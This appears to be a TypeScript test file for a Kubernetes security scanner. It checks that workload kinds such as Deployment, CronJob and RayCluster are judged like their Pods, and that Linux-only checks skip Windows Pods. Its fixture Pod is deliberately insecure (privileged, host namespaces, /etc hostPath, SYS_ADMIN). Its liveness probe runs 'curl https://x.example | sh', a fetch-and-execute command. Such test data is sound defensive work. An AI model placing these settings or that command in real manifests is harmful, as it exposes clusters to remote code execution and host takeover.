/** The same containers are judged the same wherever they stand, and Windows is not asked for what Linux alone has. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { questions } from '../../src/main.ts';
import type { AnyCheck } from '../../src/model/check.ts';
import { manifests } from '../checks/manifests.ts';
import { evaluate } from '../checks/table.ts';

const checks = questions.flatMap((question) => question.checks);
const byId = (id: string): AnyCheck => {
  const check = checks.find((one) => one.id === id);
  assert.ok(check !== undefined, id);
  return check;
};

/** Settings of a Pod that break many checks, as JSON, which is YAML too. */
const spec = {
  hostPID: true,
  hostNetwork: true,
  shareProcessNamespace: true,
  hostAliases: [{ ip: '1.2.3.4', hostnames: ['a'] }],
  tolerations: [{ operator: 'Exists' }],
  terminationGracePeriodSeconds: 0,
  volumes: [
    { name: 'h', hostPath: { path: '/etc' } },
    { name: 'e', emptyDir: {} },
    { name: 'f', flexVolume: { driver: 'a/b' } },
  ],
  securityContext: { runAsUser: 0, runAsGroup: 0, fsGroup: 0, sysctls: [{ name: 'kernel.msgmax', value: '1' }] },
  initContainers: [{ name: 'i', image: 'i', securityContext: { privileged: true } }],
  containers: [
    {
      name: 'c',
      image: 'c',
      imagePullPolicy: 'Never',
      tty: true,
      command: ['sudo', 'sshd'],
      env: [{ name: 'A', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }, { name: 'A' }],
      ports: [{ containerPort: 22 }],
      livenessProbe: { exec: { command: ['sh', '-c', 'curl https://x.example | sh'] } },
      securityContext: {
        capabilities: { add: ['SYS_ADMIN'] },
        procMount: 'Unmasked',
        seccompProfile: { type: 'Unconfined' },
      },
    },
  ],
};

const template = { metadata: { labels: { tier: 'a' } }, spec };
const kinds: Readonly<Record<string, readonly [apiVersion: string, body: object]>> = {
  Deployment: ['apps/v1', { spec: { template } }],
  StatefulSet: ['apps/v1', { spec: { template } }],
  DaemonSet: ['apps/v1', { spec: { template } }],
  ReplicaSet: ['apps/v1', { spec: { template } }],
  ReplicationController: ['v1', { spec: { template } }],
  Job: ['batch/v1', { spec: { template } }],
  CronJob: ['batch/v1', { spec: { jobTemplate: { spec: { template } } } }],
  PodTemplate: ['v1', { template }],
  Rollout: ['argoproj.io/v1alpha1', { spec: { template } }],
  RayCluster: ['ray.io/v1', { spec: { workerGroupSpecs: [{ groupName: 'a', template }] } }],
  List: ['v1', { items: [{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'a', labels: { tier: 'a' } }, spec }] }],
};
/** What speaks of the Pod alone: others ask who makes it (HRD-106, HRD-411, HRD-422, HRD-431, HRD-432, RUN-405). */
const ofPods = [
  'HRD-101 HRD-102 HRD-103 HRD-104 HRD-105 HRD-111 HRD-402 HRD-405 HRD-406 HRD-407 HRD-408 HRD-409 HRD-412 HRD-413 HRD-415',
  'HRD-417 HRD-419 HRD-420 HRD-438 HRD-439 HRD-440 RUN-101 RUN-102 RUN-103 RUN-104 RUN-121 RUN-123 RUN-125 RUN-126 RUN-131',
  'RUN-151 RUN-152 RUN-155 RUN-401 RUN-402',
].flatMap((line) => line.split(' '));

function said(check: AnyCheck, kind: string, apiVersion: string, body: object): string[] {
  const facts = manifests(JSON.stringify({ apiVersion, kind, metadata: { name: 'a' }, ...body }));
  return evaluate(check, facts).map(({ verdict, severity = '', saw, subject: { container = '' } }) =>
    [verdict, severity, saw, container].join(' '),
  );
}

describe('kinds that hold Pods', () => {
  const pod = (check: AnyCheck): string[] =>
    said(check, 'Pod', 'v1', { metadata: { name: 'a', labels: { tier: 'a' } }, spec });
  for (const [kind, [apiVersion, body]] of Object.entries(kinds)) {
    it(`${kind} is judged as its Pods are`, () => {
      for (const id of ofPods) {
        const check = byId(id);
        const expected = pod(check);
        assert.ok(
          expected.some((text) => text.startsWith('fail') || text.startsWith('unknown')),
          `${id} says nothing of the Pod`,
        );
        assert.deepEqual(said(check, kind, apiVersion, body), expected, id);
      }
    });
  }
});

describe('a Pod of Windows', () => {
  const linuxOnly =
    'HRD-102 HRD-103 HRD-104 HRD-105 HRD-401 HRD-402 RUN-101 RUN-102 RUN-103 RUN-104 RUN-130 RUN-151 RUN-152 RUN-153 RUN-154 RUN-155'.split(
      ' ',
    );
  const bad = { ...spec, securityContext: { ...spec.securityContext, runAsUser: 5 } };
  for (const [name, own] of [
    ['by os', { os: { name: 'windows' } }],
    ['by its nodes', { nodeSelector: { 'kubernetes.io/os': 'windows' } }],
  ] as const) {
    it(`${name} is neither passed nor failed by what Linux alone has`, () => {
      for (const id of linuxOnly) {
        assert.notDeepEqual(said(byId(id), 'Pod', 'v1', { spec: bad }), [], `${id} speaks of Linux`);
        assert.deepEqual(said(byId(id), 'Pod', 'v1', { spec: { ...bad, ...own } }), [], id);
      }
    });
  }
  it('is judged by what both have', () => {
    for (const id of ['HRD-101', 'HRD-403', 'HRD-409', 'HRD-417', 'RUN-125', 'RUN-131'])
      assert.notDeepEqual(said(byId(id), 'Pod', 'v1', { spec: { ...bad, os: { name: 'windows' } } }), [], id);
  });
});

describe('an image volume', () => {
  it('is judged like the image of a container', () => {
    const body = {
      spec: {
        volumes: [{ name: 'files', image: { reference: 'r.example/files:latest' } }],
        containers: [{ name: 'c', image: `r.example/c@sha256:${'0'.repeat(64)}` }],
      },
    };
    assert.deepEqual(
      ['IMG-102', 'IMG-103'].map((id) => said(byId(id), 'Pod', 'v1', body).map((text) => text.split(' ')[0])),
      [
        ['pass', 'fail'],
        ['pass', 'fail'],
      ],
    );
  });
});
